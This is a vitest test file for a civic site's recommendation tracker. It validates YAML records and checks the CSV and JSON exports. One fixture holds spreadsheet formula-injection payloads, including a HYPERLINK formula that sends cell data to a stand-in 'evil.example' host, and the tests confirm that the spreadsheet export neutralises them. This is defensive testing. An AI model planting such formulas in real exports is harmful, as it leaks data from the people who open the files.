import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { formatEditorError } from '../../../src/errors/editor-error';
import { editorWords } from '../../../src/i18n/editor-messages';
import { loadRecommendations } from '../../../src/monitoring/recommendations';
import { countByStatus, facetLists, historyCsv, trackerCsv, trackerJson } from '../../../src/monitoring/tracker';
import type { SitePaths } from '../../../src/site/paths';

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrina-recommendations-'));
const paths: SitePaths = { root, content: path.join(root, 'content'), data: path.join(root, 'data') };
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

function write(name: string, text: string) {
  const file = path.join(paths.content, 'recommendations', name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
}

const links = { projects: new Set(['town-project']), services: (id: string) => (id === 'town-monitoring' ? new Set(['S1']) : undefined) };

const base = (history: string, extra = '') => `title: { en: Publish the service standards }
text: { en: "Post the standard of every service in the hall, with deadlines and fees." }
addressee: { id: town-hall, name: { en: Town hall } }
issued: 2023-09-01
project: town-project
${extra}history:
${history}`;

describe('recommendations', () => {
  it('reads the current status from the last history entry and sorts newest first', () => {
    write('rec-a.yaml', base(`  - { date: 2023-09-01, status: proposed }
  - date: 2023-10-15
    status: accepted
    evidence:
      - { title: { en: Council decision }, url: "https://example.org/decision" }
  - { date: 2024-02-01, status: partly-implemented, note: { en: 'Posted in two of five offices, "quoted, text"' } }
`, 'service: { dataset: town-monitoring, id: S1 }\n'));
    write('rec-b.yaml', base(`  - { date: 2023-11-01, status: no-response }\n`).replace('2023-09-01', '2023-10-01').replace('Town hall', 'Town hall'));
    const { recommendations, errors } = loadRecommendations(paths, links);
    expect(errors.map((error) => formatEditorError(error, editorWords('en')))).toEqual([]);
    expect(recommendations.map((r) => [r.id, r.status, r.statusDate])).toEqual([
      ['rec-b', 'no-response', '2023-11-01'],
      ['rec-a', 'partly-implemented', '2024-02-01'],
    ]);
    expect(countByStatus(recommendations)).toEqual({ proposed: 0, accepted: 0, 'partly-implemented': 1, implemented: 0, rejected: 0, 'no-response': 1 });
    expect(facetLists(recommendations).map((list) => `${list.facet}=${list.value}:${list.items.map((r) => r.id).join('+')}`)).toEqual([
      'status=partly-implemented:rec-a',
      'status=no-response:rec-b',
      'addressee=town-hall:rec-b+rec-a',
      'project=town-project:rec-b+rec-a',
    ]);
  });

  it('writes the tracker downloads byte for byte', () => {
    const { recommendations } = loadRecommendations(paths, links);
    const siteLinks = { file: (file: string) => `/files/${file}`, publication: (lang: string, slug: string) => `/${lang}/publications/${slug}/` };
    expect(trackerCsv(recommendations).split('\r\n')).toEqual([
      'id,issued,project,addressee_id,addressee_bg,addressee_en,addressee_ru,service_dataset,service_id,status,status_date,title_bg,title_en,title_ru,text_bg,text_en,text_ru,finding_bg,finding_en,finding_ru,illustrative',
      'rec-b,2023-10-01,town-project,town-hall,,Town hall,,,,no-response,2023-11-01,,Publish the service standards,,,"Post the standard of every service in the hall, with deadlines and fees.",,,,,false',
      'rec-a,2023-09-01,town-project,town-hall,,Town hall,,town-monitoring,S1,partly-implemented,2024-02-01,,Publish the service standards,,,"Post the standard of every service in the hall, with deadlines and fees.",,,,,false',
      '',
    ]);
    expect(historyCsv(recommendations, siteLinks).split('\r\n').slice(1, 5)).toEqual([
      'rec-b,2023-11-01,no-response,,,,',
      'rec-a,2023-09-01,proposed,,,,',
      'rec-a,2023-10-15,accepted,,,,https://example.org/decision',
      'rec-a,2024-02-01,partly-implemented,,"Posted in two of five offices, ""quoted, text""",,',
    ]);
    const json = JSON.parse(trackerJson(recommendations, siteLinks));
    expect(json.recommendations[1].history[1].evidence).toEqual([{ title: { en: 'Council decision' }, href: 'https://example.org/decision' }]);
    expect(trackerJson(recommendations, siteLinks)).toBe(trackerJson(recommendations, siteLinks));
  });

  it('stops on a status outside the list, a history out of date order, and broken links', () => {
    write('rec-a.yaml', base(`  - { date: 2023-09-01, status: proposed }
  - { date: 2023-12-01, status: accepted }
  - { date: 2023-11-01, status: done }
  - { date: 2023-10-01, status: implemented }
`));
    write('rec-b.yaml', base(`  - { date: 2023-08-01, status: proposed }\n`).replace('town-project', 'other-project'));
    write('rec-c.yaml', base(`  - date: 2023-12-02
    status: implemented
    evidence:
      - { title: { en: Photo }, file: photos/missing.jpg }
      - { title: { en: Report }, publication: bg/no-such-report }
`, 'service: { dataset: town-monitoring, id: S7 }\n').replace('name: { en: Town hall }', 'name: { en: Town Hall office }'));
    write('page.yaml', base(`  - { date: 2023-09-01, status: proposed }\n`));
    const { recommendations, errors } = loadRecommendations(paths, links);
    expect(recommendations.map((r) => r.id)).toEqual([]);
    expect(errors.map((error) => formatEditorError(error, editorWords('en'))).join('\n')).toMatchInlineSnapshot(`
      "content/recommendations/page.yaml:1:1: the file name "page" is not a valid recommendation id
          hint: use lower-case ASCII letters, digits and hyphens, e.g. perushtitsa-2023-01 (not page, status, addressee, project)
      content/recommendations/rec-a.yaml:9:33 history.2.status: the text "done" is not allowed
          hint: use one of: proposed, accepted, partly-implemented, implemented, rejected, no-response
      content/recommendations/rec-a.yaml:9:13 history.2.date: 2023-11-01 is earlier than 2023-12-01 above it; the history must be in date order, oldest first
          hint: move the entry to its place by date, or correct the date
      content/recommendations/rec-a.yaml:10:13 history.3.date: 2023-10-01 is earlier than 2023-12-01 above it; the history must be in date order, oldest first
          hint: move the entry to its place by date, or correct the date
      content/recommendations/rec-b.yaml:7:13 history.0.date: 2023-08-01 is before the recommendation was issued (2023-09-01)
          hint: move the entry to its place by date, or correct the date
      content/recommendations/rec-b.yaml:5:10 project: unknown project "other-project"
          hint: use the file name of a project in content/projects: town-project
      content/recommendations/rec-c.yaml:6:42 service.id: the monitoring "town-monitoring" has no service "S7"
          hint: use a code from its services table: S1
      content/recommendations/rec-c.yaml:11:39 history.0.evidence.0.file: the file "photos/missing.jpg" does not exist
          hint: put the file in content/files or correct the path (it is relative to content/files)
      content/recommendations/rec-c.yaml:12:47 history.0.evidence.1.publication: the publication "bg/no-such-report" does not exist
          hint: use <lang>/<slug> of a file in content/publications, e.g. bg/recommendations-report
      content/recommendations/rec-c.yaml:3:35 addressee.name: names the addressee "town-hall" differently from content/recommendations/page.yaml
          hint: write the same name wherever the same addressee id is used"
    `);
  });
});

describe('the tracker downloads with formulas typed by editors', () => {
  const hostileRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrina-recommendations-formulas-'));
  const hostile: SitePaths = { root: hostileRoot, content: path.join(hostileRoot, 'content'), data: path.join(hostileRoot, 'data') };
  afterAll(() => fs.rmSync(hostileRoot, { recursive: true, force: true }));
  fs.mkdirSync(path.join(hostile.content, 'recommendations'), { recursive: true });
  fs.writeFileSync(
    path.join(hostile.content, 'recommendations', 'rec-f.yaml'),
    `title: { en: '=HYPERLINK("https://evil.example/?"&A1,"Click")', bg: '@SUM(1+1)', ru: '+7 495 123-45-67' }
text: { en: '-1+1 people were served', bg: 'Обикновен текст' }
addressee: { id: town-hall, name: { en: Town hall } }
issued: 2023-09-01
project: town-project
history:
  - { date: 2023-09-01, status: proposed, note: { en: '=1+1', bg: '-', ru: '@A1' } }
`,
  );
  const { recommendations, errors } = loadRecommendations(hostile, links);
  const siteLinks = { file: (file: string) => `/files/${file}`, publication: (lang: string, slug: string) => `/${lang}/publications/${slug}/` };
  // YAML trims texts, so tab, carriage return and line feed can only reach the writer from code: set them here.
  const withControls = recommendations.map((r) => ({ ...r, finding: { bg: '\t=1+1', en: '\r=1+1', ru: '\n=1+1' } }));
  const rows = (csv: string) => Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

  it('keeps every text exactly as written in the canonical CSVs', () => {
    expect(errors).toEqual([]);
    const [row] = rows(trackerCsv(withControls));
    expect(row).toMatchObject({
      id: 'rec-f',
      title_en: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      title_bg: '@SUM(1+1)',
      title_ru: '+7 495 123-45-67',
      text_en: '-1+1 people were served',
      finding_bg: '\t=1+1',
      finding_en: '\r=1+1',
      finding_ru: '\n=1+1',
      illustrative: 'false',
    });
    expect(trackerCsv(withControls).charCodeAt(0)).not.toBe(0xfeff);
    expect(rows(historyCsv(withControls, siteLinks))[0]).toMatchObject({ note_en: '=1+1', note_bg: '-', note_ru: '@A1' });
  });

  it('neutralises each formula prefix in the spreadsheet variants, with a BOM, and leaves other cells alone', () => {
    const list = trackerCsv(withControls, 'spreadsheet');
    expect(list.startsWith('\uFEFFid,issued,project,')).toBe(true);
    expect(rows(list)[0]).toMatchObject({
      id: 'rec-f',
      issued: '2023-09-01',
      title_en: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      title_bg: "'@SUM(1+1)",
      title_ru: "'+7 495 123-45-67",
      text_en: "'-1+1 people were served",
      text_bg: 'Обикновен текст',
      finding_bg: "'\t=1+1",
      finding_en: "'\r=1+1",
      finding_ru: "'\n=1+1",
      status: 'proposed',
      illustrative: 'false',
    });
    const history = historyCsv(withControls, siteLinks, 'spreadsheet');
    expect(history.startsWith('\uFEFFid,date,status,')).toBe(true);
    expect(rows(history)[0]).toEqual({ id: 'rec-f', date: '2023-09-01', status: 'proposed', note_bg: "'-", note_en: "'=1+1", note_ru: "'@A1", evidence: '' });
    // Only the BOM and the apostrophes differ from the canonical file.
    expect(list.slice(1).replaceAll("'", '')).toBe(trackerCsv(withControls).replaceAll("'", ''));
  });
});
